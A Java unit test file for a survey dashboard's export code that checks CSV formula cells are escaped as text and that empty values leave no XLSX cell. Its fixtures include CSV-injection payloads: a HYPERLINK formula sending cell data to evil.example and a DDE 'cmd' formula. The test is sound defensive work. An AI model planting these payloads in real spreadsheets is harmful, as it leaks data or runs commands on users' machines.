package nl.samenspraak.dashboard;

import nl.samenspraak.support.ExcelCsv;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

/** Every CSV cell that a spreadsheet would run as a formula is written as text, whatever column it is in. */
class ExportFilesTest {

    @Test
    void cellsThatStartAFormulaGetAnApostropheAndReadBackAsText() {
        List<String> dangerous = List.of("=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=cmd|' /C calc'!A0");
        List<String> harmless = List.of("Tolk", "1+1", "a=b", "", "Çok teşekkürler; \"lütfen\"", "شكرا");
        List<String> row = new java.util.ArrayList<>(dangerous);
        row.addAll(harmless);
        ExportTable table = new ExportTable(List.of("h" + row.size()), List.of(row));
        List<List<String>> read = ExcelCsv.read(ExportFiles.csv(table));
        assertEquals(2, read.size());
        List<String> cells = read.get(1);
        for (int i = 0; i < dangerous.size(); i++) {
            assertEquals("'" + dangerous.get(i), cells.get(i));
            assertFalse(ExcelCsv.runsAsFormula(cells.get(i)), cells.get(i));
        }
        assertEquals(harmless, cells.subList(dangerous.size(), cells.size()), "other cells as they were");
    }

    /**
     * The texts' sheet is blank below a column's last text: no cell there, not an empty text (COUNTA counted those,
     * so "how many wrote" read as the longest column's count). The same for a skipped answer in the rows.
     */
    @Test
    void anEmptyValueIsNoCellInTheXlsx() throws java.io.IOException {
        ExportTable texts = new ExportTable(List.of("goed_in_wijk", "beter_in_wijk"),
                List.of(List.of("Het park", "Meer bankjes"), List.of("De markt", "")));
        byte[] xlsx = ExportFiles.xlsx(List.of(new ExportFiles.Sheet("Antwoorden", new ExportTable(List.of("Rij"), List.of())),
                new ExportFiles.Sheet("Eigen woorden", texts)));
        try (var workbook = new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            assertEquals(List.of("Antwoorden", "Eigen woorden"), workbook.getSheets().map(org.dhatim.fastexcel.reader.Sheet::getName).toList());
            try (var rows = workbook.getSheet(1).orElseThrow().openStream()) {
                List<org.dhatim.fastexcel.reader.Row> all = rows.toList();
                assertEquals("De markt", all.get(2).getCellText(0));
                assertEquals(org.dhatim.fastexcel.reader.CellType.EMPTY, all.get(2).getOptionalCell(1)
                        .map(org.dhatim.fastexcel.reader.Cell::getType).orElse(org.dhatim.fastexcel.reader.CellType.EMPTY),
                        "no cell below the column's last text");
            }
        }
    }
}
